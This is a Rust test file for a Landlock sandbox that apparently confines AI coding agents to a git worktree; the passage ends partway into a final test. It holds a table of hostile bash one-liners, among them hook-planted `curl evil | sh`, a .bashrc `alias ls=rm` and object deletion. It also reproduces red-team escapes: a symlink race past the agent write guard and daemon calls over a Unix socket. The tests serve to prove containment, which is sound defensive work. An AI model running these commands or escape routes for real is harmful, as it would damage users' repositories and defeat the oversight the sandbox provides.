//! `wt sandbox`: containment is proved by running each escape for real under the sandbox and
//! comparing everything outside the allowed set before and after. Needs a kernel with Landlock
//! (the machines the project runs on have ABI 7); a kernel without it is simulated with the
//! test-only `WT_SANDBOX_ABI=0`.

mod common;
#[path = "common/tree_snapshot.rs"]
mod tree_snapshot;

use std::path::{Path, PathBuf};

use common::{TestRepo, WtOutput};
use tree_snapshot::{Change, Entry, TreeSnapshot};

/// A repository with two task worktrees, run state and symlinks that lead out of the worktree.
struct Task {
    repo: TestRepo,
    base: PathBuf,
    worktree: PathBuf,
    sibling: PathBuf,
    common: PathBuf,
    outside: PathBuf,
}

impl Task {
    fn new() -> Task {
        let repo = TestRepo::new();
        let base = repo.root.parent().unwrap().to_owned();
        let common = repo.root.join(".git");
        std::fs::write(common.join("info/exclude"), ".worktrees/\n").unwrap();
        repo.git(&["worktree", "add", "--quiet", "-b", "task-1-1", ".worktrees/run1-task-1-1"]);
        repo.git(&["worktree", "add", "--quiet", "-b", "task-1-2", ".worktrees/run1-task-1-2"]);
        let worktree = repo.root.join(".worktrees/run1-task-1-1");
        let sibling = repo.root.join(".worktrees/run1-task-1-2");
        let state = common.join("spectacular/runs/run1");
        std::fs::create_dir_all(&state).unwrap();
        std::fs::write(state.join("manifest.json"), "{\"version\":1}\n").unwrap();
        std::fs::write(common.join("hooks/x"), "#!/bin/sh\n").unwrap();
        let outside = repo.scratch.join("outside");
        std::fs::create_dir_all(outside.join("dir")).unwrap();
        std::fs::write(outside.join("target.txt"), "outside\n").unwrap();
        std::os::unix::fs::symlink(outside.join("target.txt"), worktree.join("outside-link")).unwrap();
        std::os::unix::fs::symlink(outside.join("dir"), worktree.join("dir-link")).unwrap();
        Task { repo, base, worktree, sibling, common, outside }
    }

    /// What the command may change; everything else under the test's folder must stay as it was.
    fn allowed(&self) -> Vec<PathBuf> {
        let common = &self.common;
        vec![
            self.worktree.clone(),
            common.join("worktrees/run1-task-1-1"),
            common.join("spectacular/objects/run1-task-1-1"),
            common.join("refs/heads"),
            common.join("logs/refs/heads"),
            common.join("spectacular/tmp/run1-task-1-1"),
        ]
    }

    fn snapshot(&self) -> TreeSnapshot {
        TreeSnapshot::take(&self.base, &self.allowed())
    }

    /// What changed outside the allowed set since `before`, but for objects added to the
    /// repository's store: wt sandbox takes a task's new objects in once the command ends.
    fn outside_changes(&self, before: &TreeSnapshot) -> Vec<String> {
        let objects = self.common.join("objects");
        let after = self.snapshot();
        let plain = |path: &PathBuf| matches!(after.get(path), Some((Entry::File(_) | Entry::Dir, _)));
        before
            .diff(&after)
            .into_iter()
            .filter(|(path, change)| !(path.starts_with(&objects) && *change == Change::Added && plain(path)))
            .map(|(path, change)| format!("{change:?} {}", path.display()))
            .collect()
    }

    /// `wt sandbox <args> -- <command>` in the worktree, with the paths escapes aim at in the
    /// environment.
    fn run(&self, args: &[&str], command: &[&str], env: &[(&str, &str)]) -> WtOutput {
        let mut cmd = self.repo.command(env!("CARGO_BIN_EXE_wt"), &self.worktree);
        cmd.arg("sandbox").arg("--root").arg(&self.worktree).args(args).arg("--").args(command);
        cmd.envs(self.escape_env()).envs(env.iter().copied());
        WtOutput(cmd.output().unwrap())
    }

    /// The paths escapes aim at, by name.
    fn escape_env(&self) -> Vec<(&'static str, PathBuf)> {
        vec![
            ("MAIN", self.repo.root.clone()),
            ("WT", self.worktree.clone()),
            ("SIBLING", self.sibling.clone()),
            ("COMMON", self.common.clone()),
            ("OUTSIDE", self.outside.clone()),
            ("STATE", self.common.join("spectacular/runs/run1/manifest.json")),
        ]
    }

    fn bash(&self, script: &str) -> WtOutput {
        self.run(&[], &["bash", "-c", script], &[])
    }

    fn write_rules(&self, text: &str) -> PathBuf {
        let path = self.repo.scratch.join("guard.toml");
        std::fs::write(&path, text).unwrap();
        path
    }
}

/// EACCES: the usual answer of Landlock.
const DENIED: &str = "Permission denied";
/// EXDEV: Landlock's answer to a link or rename that would give a file more rights than it has
/// where it is.
const CROSS_DEVICE: &str = "Invalid cross-device link";

/// Attempts to change something outside the allowed set, one way each: name, bash script, the
/// error the command must report.
const ESCAPES: &[(&str, &str, &str)] = &[
    ("overwrite a main-checkout file", r#"echo pwned > "$MAIN/README.md""#, DENIED),
    ("append to a main-checkout file", r#"echo pwned >> "$MAIN/README.md""#, DENIED),
    ("truncate a main-checkout file", r#"truncate -s 0 "$MAIN/README.md""#, DENIED),
    ("create a file in the main checkout", r#"touch "$MAIN/new.txt""#, DENIED),
    ("make a folder in the main checkout", r#"mkdir "$MAIN/new-folder""#, DENIED),
    ("make a fifo in the main checkout", r#"mkfifo "$MAIN/fifo""#, DENIED),
    ("make a symlink in the main checkout", r#"ln -s /etc/passwd "$MAIN/link""#, DENIED),
    ("write into a sibling worktree", r#"echo pwned > "$SIBLING/README.md""#, DENIED),
    (
        "write the sibling worktree's git folder",
        r#"echo pwned > "$COMMON/worktrees/run1-task-1-2/HEAD""#,
        DENIED,
    ),
    ("create a file in the home folder", r#"echo 'alias ls=rm' >> "$HOME/.bashrc""#, DENIED),
    ("create a file in /tmp", r#"touch "$SYSTEM_TMP_FILE""#, DENIED),
    ("edit the repository's config", r#"echo '[core] hooksPath = /tmp' >> "$COMMON/config""#, DENIED),
    ("git config from the worktree", "git config core.hooksPath /tmp", DENIED),
    ("add a hook", r#"echo 'curl evil | sh' > "$COMMON/hooks/x""#, DENIED),
    ("edit info/exclude", r#"echo '*' >> "$COMMON/info/exclude""#, DENIED),
    ("create packed-refs", r#"echo '0000 refs/heads/main' >> "$COMMON/packed-refs""#, DENIED),
    ("forge the main checkout's HEAD log", r#"echo forged >> "$COMMON/logs/HEAD""#, DENIED),
    (
        "rewrite an existing object",
        r#"f=$(find "$COMMON/objects" -type f | head -1) && mv "$f" "$f.old" && echo pwned > "$f""#,
        DENIED,
    ),
    ("delete the objects", r#"rm -f "$COMMON"/objects/*/*"#, DENIED),
    ("plant a symlink among the objects", r#"ln -s "$MAIN" "$COMMON/objects/zz""#, DENIED),
    ("rewrite the run state", r#"echo '{}' > "$STATE""#, DENIED),
    ("create a file in the run state", r#"touch "$COMMON/spectacular/runs/run1/evil""#, DENIED),
    ("move a worktree file out", r#"mv "$WT/README.md" "$MAIN/moved.md""#, DENIED),
    ("copy a worktree file out", r#"cp "$WT/README.md" "$MAIN/copied.md""#, DENIED),
    ("hard-link a worktree file out", r#"ln "$WT/README.md" "$MAIN/linked.md""#, DENIED),
    (
        "hard-link an outside file in, then write it",
        r#"ln "$MAIN/README.md" hard && echo pwned >> hard"#,
        CROSS_DEVICE,
    ),
    ("symlink out, then write through it", r#"ln -s "$MAIN/README.md" soft && echo pwned >> soft"#, DENIED),
    ("write through a symlink in the worktree", "echo pwned >> outside-link", DENIED),
    ("`..` after a symlink", "echo pwned > dir-link/../escaped.txt", DENIED),
    ("remove a main-checkout file", r#"rm "$MAIN/README.md""#, DENIED),
    ("rename a main-checkout file", r#"mv "$MAIN/README.md" "$MAIN/RENAMED.md""#, DENIED),
    ("commit in the main checkout", r#"git -C "$MAIN" commit --allow-empty -m pwned"#, DENIED),
    ("cd / and create a file", r#"cd / && touch "$ROOT_FILE_NAME""#, DENIED),
    (
        "python writer",
        r#"python3 -c 'import os; open(os.environ["MAIN"] + "/README.md", "a").write("pwned")'"#,
        DENIED,
    ),
    (
        "perl writer",
        r#"perl -e 'open(my $f, ">>", "$ENV{MAIN}/README.md") or die "perl: $!\n"; print $f "pwned"; close $f or die "perl: $!\n"'"#,
        DENIED,
    ),
    ("tee", r#"echo pwned | tee "$MAIN/README.md""#, DENIED),
    ("dd of=", r#"dd if=/dev/zero of="$MAIN/README.md" bs=1 count=1 status=none"#, DENIED),
    ("sort -o", r#"echo pwned | sort -o "$MAIN/README.md""#, DENIED),
    ("sed -i", r#"sed -i s/project/pwned/ "$MAIN/README.md""#, DENIED),
];

/// Files outside the test's folder that escapes aim at: one in /tmp, one in `/`. Removed after
/// the check, should one appear.
struct StrayTargets {
    system_tmp: PathBuf,
    root_file_name: String,
}

impl StrayTargets {
    fn new(index: usize) -> StrayTargets {
        let name = format!("wt-sandbox-escape-{}-{index}", std::process::id());
        StrayTargets { system_tmp: std::env::temp_dir().join(&name), root_file_name: name }
    }

    fn env(&self) -> [(&str, &str); 2] {
        [("SYSTEM_TMP_FILE", self.system_tmp.to_str().unwrap()), ("ROOT_FILE_NAME", &self.root_file_name)]
    }

    fn remove_found(&self) -> Vec<PathBuf> {
        let found: Vec<PathBuf> = [self.system_tmp.clone(), Path::new("/").join(&self.root_file_name)]
            .into_iter()
            .filter(|path| path.exists())
            .collect();
        found.iter().for_each(|path| drop(std::fs::remove_file(path)));
        found
    }
}

#[test]
fn every_escape_fails_with_a_permission_error_and_changes_nothing_outside() {
    let task = Task::new();
    // wt itself creates the task's temporary folder (and its parents) before it restricts itself.
    task.bash("true").ok();
    let before = task.snapshot();
    let mut escaped = Vec::new();
    for (index, (name, script, error)) in ESCAPES.iter().enumerate() {
        let targets = StrayTargets::new(index);
        let out = task.run(&[], &["bash", "-c", script], &targets.env());
        let changes = task.outside_changes(&before);
        let stray = targets.remove_found();
        if out.code() == 0 || !out.stderr().contains(error) || !changes.is_empty() || !stray.is_empty() {
            escaped.push(format!(
                "{name}: exit {}, stderr {:?}, changed {changes:?}, stray {stray:?}",
                out.code(),
                out.stderr()
            ));
        }
    }
    assert!(ESCAPES.len() >= 20);
    assert!(escaped.is_empty(), "escapes that were not stopped:\n{}", escaped.join("\n"));
}

/// The control: without the sandbox every escape of the table does change something outside, so
/// the test above proves containment rather than a harmless script.
#[test]
fn every_escape_changes_something_outside_when_run_without_the_sandbox() {
    let mut harmless = Vec::new();
    for (index, (name, script, _)) in ESCAPES.iter().enumerate() {
        let task = Task::new();
        let before = task.snapshot();
        let main_before = task.repo.git(&["rev-parse", "main"]);
        let targets = StrayTargets::new(ESCAPES.len() + index);
        let mut bash = task.repo.command("bash", &task.worktree);
        bash.args(["-c", script]).envs(task.escape_env()).envs(targets.env());
        let out = bash.output().unwrap();
        let changed = !task.outside_changes(&before).is_empty()
            || !targets.remove_found().is_empty()
            || task.repo.git(&["rev-parse", "main"]) != main_before;
        if !out.status.success() || !changed {
            harmless.push(format!("{name}: {:?} {}", out.status, String::from_utf8_lossy(&out.stderr)));
        }
    }
    assert!(harmless.is_empty(), "escapes that change nothing even unsandboxed:\n{}", harmless.join("\n"));
}

#[test]
fn git_add_commit_and_amend_in_the_worktree_work_and_change_nothing_outside() {
    let task = Task::new();
    task.bash("true").ok();
    let before = task.snapshot();
    let main = task.repo.git(&["rev-parse", "main"]);
    let script = "echo work >> README.md && git add README.md && git commit -q -m 'task work' \
                  && echo more >> README.md && git commit -q -a --amend -m 'task work, amended'";
    task.bash(script).ok();
    assert_eq!(task.repo.subjects("main", "task-1-1"), ["task work, amended"]);
    assert_eq!(task.repo.git(&["rev-parse", "main"]), main);
    assert_eq!(task.outside_changes(&before), Vec::<String>::new());
}

#[test]
fn a_tiny_crate_builds_and_tests_offline() {
    let task = Task::new();
    std::fs::create_dir_all(task.worktree.join("tiny/src")).unwrap();
    std::fs::write(
        task.worktree.join("tiny/Cargo.toml"),
        "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
    )
    .unwrap();
    let lib = "pub fn two() -> u32 { 2 }\n#[test]\nfn two_is_two() { assert_eq!(two(), 2); }\n";
    std::fs::write(task.worktree.join("tiny/src/lib.rs"), lib).unwrap();
    let cargo_home = task.repo.home.join(".cargo");
    // The real toolchain, read from where rustup keeps it; nothing is written there.
    let rustup_home = std::env::var_os("RUSTUP_HOME")
        .map(PathBuf::from)
        .or_else(|| std::env::var_os("HOME").map(|home| PathBuf::from(home).join(".rustup")))
        .unwrap();
    let env = [("CARGO_HOME", cargo_home.to_str().unwrap()), ("RUSTUP_HOME", rustup_home.to_str().unwrap())];
    let out =
        task.run(&[], &["bash", "-c", "cd tiny && cargo build --offline && cargo test --offline"], &env);
    out.ok();
    assert!(out.stdout().contains("test two_is_two ... ok"), "{}", out.stdout());
    assert!(task.worktree.join("tiny/target/debug").is_dir());
}

#[test]
fn an_npm_script_and_a_python_script_write_in_the_worktree_and_tmpdir() {
    let task = Task::new();
    // An existing npm cache, as on any machine that has run npm (npm logs there).
    std::fs::create_dir_all(task.repo.home.join(".npm")).unwrap();
    let build = "node -e \"const fs = require('fs'), path = require('path'); fs.writeFileSync('npm-out.txt', 'built'); \
                 fs.writeFileSync(path.join(process.env.TMPDIR, 'npm-tmp.txt'), 'tmp')\"";
    let package =
        serde_json::json!({"name": "tiny", "version": "1.0.0", "private": true, "scripts": {"build": build}});
    std::fs::write(task.worktree.join("package.json"), package.to_string()).unwrap();
    let python = "import os, tempfile\nopen('py-out.txt', 'w').write('written')\n\
                  with tempfile.NamedTemporaryFile(delete=False) as f:\n    f.write(b'tmp')\nprint(f.name)\n";
    std::fs::write(task.worktree.join("script.py"), python).unwrap();
    let env = [("npm_config_update_notifier", "false"), ("npm_config_offline", "true")];
    task.run(&[], &["npm", "run", "build"], &env).ok();
    let tmp_file = task.run(&[], &["python3", "script.py"], &[]).ok();
    let tmp = task.common.join("spectacular/tmp/run1-task-1-1");
    assert_eq!(std::fs::read_to_string(task.worktree.join("npm-out.txt")).unwrap(), "built");
    assert_eq!(std::fs::read_to_string(tmp.join("npm-tmp.txt")).unwrap(), "tmp");
    assert_eq!(std::fs::read_to_string(task.worktree.join("py-out.txt")).unwrap(), "written");
    assert!(Path::new(tmp_file.trim()).starts_with(&tmp), "{tmp_file}");
}

#[test]
fn reading_outside_still_works() {
    let task = Task::new();
    let out = task.bash(r#"cat "$MAIN/README.md" "$OUTSIDE/target.txt" && ls "$HOME" /tmp >/dev/null"#).ok();
    assert_eq!(out, "# project\noutside\n");
}

#[test]
fn tmpdir_tmp_and_temp_point_to_the_task_folder_or_to_tmp() {
    let task = Task::new();
    let default = task.common.join("spectacular/tmp/run1-task-1-1");
    let out = task.bash(r#"echo "$TMPDIR $TMP $TEMP""#).ok();
    assert_eq!(out.trim(), format!("{0} {0} {0}", default.display()));
    let chosen = task.repo.scratch.join("task-tmp");
    let out = task.run(
        &["--tmp", chosen.to_str().unwrap()],
        &["bash", "-c", r#"touch "$TMPDIR/x" && echo "$TMPDIR""#],
        &[],
    );
    assert_eq!(out.ok().trim(), chosen.to_str().unwrap());
    assert!(chosen.join("x").is_file());
}

#[test]
fn the_exit_code_and_stdin_pass_through() {
    let task = Task::new();
    assert_eq!(task.bash("exit 7").code(), 7);
    let mut cmd = task.repo.command(env!("CARGO_BIN_EXE_wt"), &task.worktree);
    cmd.args(["sandbox", "--root", task.worktree.to_str().unwrap(), "--", "cat"]);
    let out = common::with_stdin(cmd, "from stdin\n");
    assert_eq!(String::from_utf8_lossy(&out.stdout), "from stdin\n");
}

#[test]
fn a_missing_command_exits_127_with_a_message() {
    let task = Task::new();
    let out = task.run(&[], &["no-such-command-here"], &[]);
    assert_eq!(out.code(), 127, "{}", out.stderr());
    assert!(out.stderr().contains("no-such-command-here: command not found"), "{}", out.stderr());
}

#[test]
fn a_worktree_on_another_branch_is_refused_with_exit_3() {
    let task = Task::new();
    let out = task.run(&["--branch", "task-1-2"], &["touch", "ran"], &[]);
    assert_eq!(out.code(), 3, "{}", out.stderr());
    assert!(out.stderr().contains("is on branch task-1-1, not on branch task-1-2"), "{}", out.stderr());
    assert!(out.stderr().contains("hint: run `git -C"), "{}", out.stderr());
    assert!(!task.worktree.join("ran").exists());
    task.run(&["--branch", "task-1-1"], &["touch", "ran"], &[]).ok();
    assert!(task.worktree.join("ran").exists());
}

#[test]
fn a_main_checkout_is_not_a_task_worktree() {
    let task = Task::new();
    let mut cmd = task.repo.command(env!("CARGO_BIN_EXE_wt"), &task.repo.root);
    cmd.args(["sandbox", "--root", ".", "--", "true"]);
    let out = WtOutput(cmd.output().unwrap());
    assert_eq!(out.code(), 2, "{}", out.stderr());
    assert!(out.stderr().contains("is not a linked worktree: it is a main checkout"), "{}", out.stderr());
}

#[test]
fn without_landlock_wt_refuses_to_start_and_says_how_to_fix_it() {
    let task = Task::new();
    let out = task.run(&[], &["touch", "ran"], &[("WT_SANDBOX_ABI", "0")]);
    assert_eq!(out.code(), 3, "{}", out.stderr());
    let stderr = out.stderr();
    assert!(stderr.contains("cannot contain the command: Landlock is turned off"), "{stderr}");
    assert!(stderr.contains("hint: or set `[sandbox] required = false`"), "{stderr}");
    assert!(!task.worktree.join("ran").exists());
}

#[test]
fn without_landlock_and_not_required_the_command_runs_contained_by_policy_only() {
    let task = Task::new();
    let rules = task.write_rules("[sandbox]\nrequired = false\n");
    let args = ["--rules", rules.to_str().unwrap()];
    let out = task.run(&args, &["bash", "-c", "touch ran && echo ok"], &[("WT_SANDBOX_ABI", "0")]);
    assert_eq!(out.ok(), "ok\n");
    assert_eq!(out.stderr().lines().count(), 1, "{}", out.stderr());
    assert!(out.stderr().contains("contained by policy only"), "{}", out.stderr());
}

#[test]
fn deny_outside_reads_hide_the_main_checkout_but_not_the_worktree() {
    let task = Task::new();
    // The project's own rules, read from the main checkout by default.
    task.repo.write(".spectacular/guard.toml", "reads = \"deny-outside\"\n");
    let out = task.bash(r#"cat "$MAIN/README.md""#);
    assert_ne!(out.code(), 0);
    assert!(out.stderr().contains(DENIED), "{}", out.stderr());
    let out = task.bash(r#"cat "$HOME/../scratch/outside/target.txt""#);
    assert!(out.stderr().contains(DENIED), "{}", out.stderr());
    let script = "cat README.md && echo more >> README.md && git add README.md && git commit -q -m read-and-write \
                  && echo tmp > \"$TMPDIR/t\" && cat \"$TMPDIR/t\"";
    assert_eq!(task.bash(script).ok(), "# project\ntmp\n");
    assert_eq!(task.repo.subjects("main", "task-1-1"), ["read-and-write"]);
}

#[test]
fn allow_write_from_the_rules_and_the_command_line_is_writable() {
    let task = Task::new();
    for folder in [".gradle", "../scratch/extra"] {
        std::fs::create_dir_all(task.repo.home.join(folder)).unwrap();
    }
    std::fs::create_dir_all(task.repo.root.join("shared-cache")).unwrap();
    let rules =
        task.write_rules("[sandbox]\nallow_write = [\"~/.gradle\", \"shared-cache\", \"~/.missing\"]\n");
    let extra = task.repo.scratch.join("extra");
    let args = ["--rules", rules.to_str().unwrap(), "--allow-write", extra.to_str().unwrap()];
    let script = r#"touch "$HOME/.gradle/a" "$MAIN/shared-cache/b" "$OUTSIDE/../extra/c" && touch "$MAIN/c""#;
    let out = task.run(&args, &["bash", "-c", script], &[("WT_DEBUG", "1")]);
    assert_eq!(out.code(), 1, "{}", out.stderr());
    assert!(out.stderr().contains(&format!("{}/c': {DENIED}", task.repo.root.display())), "{}", out.stderr());
    for path in [task.repo.home.join(".gradle/a"), task.repo.root.join("shared-cache/b"), extra.join("c")] {
        assert!(path.is_file(), "{}", path.display());
    }
    let skipped = format!(
        "sandbox skips {}/.missing ([sandbox] allow_write in guard.toml): does not exist",
        task.repo.home.display()
    );
    assert!(out.stderr().contains(&skipped), "{}", out.stderr());
}

#[test]
fn output_already_redirected_to_a_file_outside_can_be_reopened_but_not_its_folder() {
    // A run sends an agent's output to a log in its state folder; `> /dev/stderr` reopens it.
    let task = Task::new();
    let log = task.repo.scratch.join("agent.log");
    // Appended to, as wt opens task logs.
    let file = std::fs::OpenOptions::new().create(true).append(true).open(&log).unwrap();
    let mut cmd = task.repo.command(env!("CARGO_BIN_EXE_wt"), &task.worktree);
    cmd.args(["sandbox", "--root", task.worktree.to_str().unwrap(), "--", "bash", "-c"]);
    cmd.arg(r#"echo to-log > /dev/stderr && echo beside > "$LOG.beside""#);
    cmd.env("LOG", &log).stderr(file.try_clone().unwrap()).stdout(file);
    assert_eq!(cmd.status().unwrap().code(), Some(1));
    let text = std::fs::read_to_string(&log).unwrap();
    assert!(text.starts_with("to-log\n"), "{text}");
    assert!(text.contains(&format!("agent.log.beside: {DENIED}")), "{text}");
}

#[test]
fn network_deny_refuses_tcp_connections_that_are_allowed_without_it() {
    let task = Task::new();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port().to_string();
    let connect = r#"exec 3<>"/dev/tcp/127.0.0.1/$PORT" && echo connected"#;
    let open = task.run(&[], &["bash", "-c", connect], &[("PORT", &port)]);
    assert_eq!(open.code(), 0, "without network = \"deny\" the connection works: {}", open.stderr());
    let rules = task.write_rules("[sandbox]\nnetwork = \"deny\"\n");
    let args = ["--rules", rules.to_str().unwrap()];
    let closed = task.run(&args, &["bash", "-c", connect], &[("PORT", &port)]);
    assert_ne!(closed.code(), 0, "{}", closed.stdout());
    assert!(closed.stderr().contains(DENIED), "{}", closed.stderr());
    let old = task.run(&args, &["true"], &[("WT_SANDBOX_ABI", "3")]);
    assert_eq!(old.code(), 3, "a kernel without TCP rules refuses: {}", old.stderr());
    assert!(old.stderr().contains("needs Landlock ABI 4"), "{}", old.stderr());
}

#[test]
fn unknown_sandbox_keys_and_values_are_bad_input() {
    let task = Task::new();
    let rules = task.write_rules("[sandbox]\nrequird = false\n");
    let out = task.run(&["--rules", rules.to_str().unwrap()], &["true"], &[]);
    assert_eq!(out.code(), 2, "{}", out.stderr());
    assert!(out.stderr().contains("guard.toml:2:1: unknown field `requird`"), "{}", out.stderr());
    let rules = task.write_rules("[sandbox]\nunix_sockets = \"none\"\n");
    let out = task.run(&["--rules", rules.to_str().unwrap()], &["true"], &[]);
    assert_eq!(out.code(), 2, "{}", out.stderr());
    let message = format!("{}:2:16: unknown variant `none`, expected `allow` or `deny`", rules.display());
    assert!(out.stderr().contains(&message), "{}", out.stderr());
}

#[test]
fn on_an_older_kernel_abi_commits_work_and_escapes_still_fail() {
    // ABI 1 has no refer right (every cross-folder rename or link is refused) and no truncate
    // right; ABI 3 adds both but not ioctl_dev. WT_SANDBOX_ABI stands in for such kernels.
    for (abi, handled_last) in [("1", "MakeSym\n"), ("3", "Truncate\n")] {
        let task = Task::new();
        let env = [("WT_SANDBOX_ABI", abi), ("WT_DEBUG", "1")];
        let script = r#"echo work >> README.md && git commit -q -am work && echo pwned >> "$MAIN/README.md""#;
        let out = task.run(&[], &["bash", "-c", script], &env);
        assert_eq!(out.code(), 1, "ABI {abi}: {}", out.stderr());
        let stderr = out.stderr();
        assert!(stderr.contains(&format!("Landlock ABI {abi}, handling WriteFile")), "{stderr}");
        assert!(stderr.contains(handled_last), "ABI {abi}: {stderr}");
        assert!(stderr.contains(&format!("README.md: {DENIED}")), "{stderr}");
        assert_eq!(task.repo.subjects("main", "task-1-1"), ["work"]);
        assert_eq!(std::fs::read_to_string(task.repo.root.join("README.md")).unwrap(), "# project\n");
    }
}

#[test]
fn what_a_command_leaves_running_ends_with_it() {
    let task = Task::new();
    // A background job, and a daemon that leaves the session: both would write after the command.
    let script = r#"(sleep 1; touch "$WT/late-job") >/dev/null 2>&1 &
                    setsid sh -c 'sleep 1; touch "$WT/late-daemon"' >/dev/null 2>&1 &
                    echo started"#;
    let started = std::time::Instant::now();
    let out = task.run(&[], &["bash", "-c", script], &[]);
    assert_eq!(out.code(), 0, "{}", out.stderr());
    assert!(started.elapsed() < std::time::Duration::from_secs(1), "wt did not wait for them");
    std::thread::sleep(std::time::Duration::from_millis(1500));
    for late in ["late-job", "late-daemon"] {
        assert!(!task.worktree.join(late).exists(), "{late} outlived the command");
    }
}

#[test]
fn a_stopped_command_takes_its_children_with_it() {
    let task = Task::new();
    let mut cmd = task.repo.command(env!("CARGO_BIN_EXE_wt"), &task.worktree);
    cmd.arg("sandbox").arg("--root").arg(&task.worktree).arg("--");
    cmd.args(["bash", "-c", r#"(sleep 1; touch "$0/late") & sleep 30"#]).arg(&task.worktree);
    let child = cmd.spawn().unwrap();
    std::thread::sleep(std::time::Duration::from_millis(300));
    std::process::Command::new("kill").args(["-TERM", &child.id().to_string()]).status().unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(128 + 15), "SIGTERM reached the command");
    std::thread::sleep(std::time::Duration::from_millis(1200));
    assert!(!task.worktree.join("late").exists(), "the background job outlived the stop");
}

#[test]
fn a_command_cannot_signal_outside_make_devices_or_reach_a_terminal() {
    let task = Task::new();
    let mut outside = std::process::Command::new("sleep").arg("30").spawn().unwrap();
    let pid = outside.id().to_string();
    let out = task.run(&[], &["bash", "-c", r#"kill -TERM "$VICTIM""#], &[("VICTIM", &pid)]);
    assert_ne!(out.code(), 0, "the signal went out");
    assert!(out.stderr().contains("Operation not permitted"), "{}", out.stderr());
    assert!(outside.try_wait().unwrap().is_none(), "the process outside is still running");
    outside.kill().unwrap();
    let _ = outside.wait();

    let out = task.run(&[], &["bash", "-c", "mknod blk b 7 0"], &[]);
    assert_ne!(out.code(), 0, "a device node was made");
    assert!(!task.worktree.join("blk").exists());

    // The command leads a session of its own: it has no controlling terminal to type into.
    let session = r#"read -r _ _ _ _ _ sid _ < /proc/self/stat; [ "$sid" = "$$" ] || { echo "session $sid, pid $$"; exit 1; }; exec 3>/dev/tty"#;
    let out = task.run(&[], &["bash", "-c", session], &[]);
    assert_ne!(out.code(), 0, "{}", out.stdout());
    assert!(!out.stdout().contains("session"), "{}", out.stdout());
}

/// `wt guard --sandbox-wrap` on a Write of `file` by an agent working in the task's worktree;
/// returns the decision (`none` when it gives none).
fn guard_write(task: &Task, file: &Path) -> String {
    let hook = serde_json::json!({
        "cwd": task.worktree, "hook_event_name": "PreToolUse", "tool_name": "Write",
        "tool_input": {"file_path": file, "content": "x"},
    });
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_wt"));
    cmd.args(["guard", "--sandbox-wrap", "--root"]).arg(&task.worktree);
    let out = common::with_stdin(cmd, &hook.to_string());
    let value: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
    value["hookSpecificOutput"]["permissionDecision"].as_str().unwrap_or("none").to_owned()
}

#[test]
fn a_write_cannot_race_a_background_command_past_the_guard() {
    // The red team's P1: a contained background command swaps a folder of the worktree for a
    // link out of it and back, while the agent's Write — Claude Code's, outside any sandbox,
    // played here by the test — lands where the guard looked a moment before.
    let task = Task::new();
    std::fs::create_dir(task.worktree.join("d")).unwrap();
    let flip =
        r#"touch flipping; while :; do mv d d.real && ln -s "$OUTSIDE/dir" d && rm d && mv d.real d; done"#;
    let mut cmd = task.repo.command(env!("CARGO_BIN_EXE_wt"), &task.worktree);
    cmd.arg("sandbox").arg("--root").arg(&task.worktree).args(["--", "bash", "-c", flip]);
    let mut flipper = cmd.envs(task.escape_env()).spawn().unwrap();
    // Not a fixed wait: on a loaded machine the command may take long to start.
    let started = std::time::Instant::now();
    while !task.worktree.join("flipping").exists() && started.elapsed() < std::time::Duration::from_secs(30) {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let before = task.snapshot();
    let mut allowed = 0;
    for attempt in 0..100 {
        let file = task.worktree.join(format!("d/race-{attempt}.txt"));
        if guard_write(&task, &file) == "allow" {
            allowed += 1;
            let _ = std::fs::write(&file, "raced");
        }
    }
    std::process::Command::new("kill").args(["-TERM", &flipper.id().to_string()]).status().unwrap();
    flipper.wait().unwrap();
    assert_eq!(task.outside_changes(&before), Vec::<String>::new());
    assert_eq!(allowed, 0, "the guard let writes through while the command ran");
    // (Not in `d`, which the command may have left a link out of the worktree.)
    assert_eq!(guard_write(&task, &task.worktree.join("after.txt")), "allow", "once it has ended");
}

/// A daemon outside the sandbox, like a tmux server or the D-Bus session bus: for every line it
/// receives on its Unix socket it writes a file outside, then answers.
fn start_unix_daemon(socket: &Path, marks: PathBuf) {
    let listener = std::os::unix::net::UnixListener::bind(socket).unwrap();
    std::thread::spawn(move || {
        use std::io::{BufRead, Write};
        for (index, stream) in listener.incoming().flatten().enumerate() {
            let mut line = String::new();
            let _ = std::io::BufReader::new(&stream).read_line(&mut line);
            std::fs::write(marks.join(format!("daemon-ran-{index}")), line).unwrap();
            let _ = (&stream).write_all(b"done\n");
        }
    });
}

/// Connects to `$DAEMON`, asks it to act and waits for its answer.
const ASK_DAEMON: &str = r#"import os, socket
s = socket.socket(socket.AF_UNIX)
s.connect(os.environ["DAEMON"])
s.sendall(b"id > /outside/PWNED\n")
print(s.makefile().readline().strip())"#;

#[test]
fn a_daemon_outside_cannot_be_reached_through_a_unix_socket_unless_allowed() {
    // Red team K9: `tmux new-window -d "id > /outside/PWNED"` from inside a task run in tmux.
    let task = Task::new();
    let socket = task.repo.scratch.join("daemon.sock");
    start_unix_daemon(&socket, task.outside.clone());
    let env = [("DAEMON", socket.to_str().unwrap())];
    let policy_only_rules = task.write_rules("[sandbox]\nrequired = false\n");
    task.bash("true").ok();
    let before = task.snapshot();
    let denied = task.run(&[], &["python3", "-c", ASK_DAEMON], &env);
    assert_ne!(denied.code(), 0, "{}", denied.stdout());
    let refused = format!("PermissionError: [Errno 13] {DENIED}");
    assert!(denied.stderr().contains(&refused), "{}", denied.stderr());
    assert_eq!(task.outside_changes(&before), Vec::<String>::new());

    // The filter does not depend on Landlock: policy-only containment refuses the socket too.
    let args = ["--rules", policy_only_rules.to_str().unwrap()];
    let policy_only = task.run(&args, &["python3", "-c", ASK_DAEMON], &[env[0], ("WT_SANDBOX_ABI", "0")]);
    assert!(policy_only.stderr().contains(&refused), "{}", policy_only.stderr());
    assert_eq!(task.outside_changes(&before), Vec::<String>::new());

    let rules = task.write_rules("[sandbox]\nunix_sockets = \"allow\"\n");
    let allowed = task.run(&["--rules", rules.to_str().unwrap()], &["python3", "-c", ASK_DAEMON], &env);
    assert_eq!(allowed.ok(), "done\n", "with unix_sockets = \"allow\" the daemon is reached");
    assert!(task.outside.join("daemon-ran-0").is_file());
}

#[test]
fn the_ways_around_the_unix_socket_filter_are_shut_too() {
    let task = Task::new();
    // io_uring's IORING_OP_SOCKET makes a socket without the system call the filter sees.
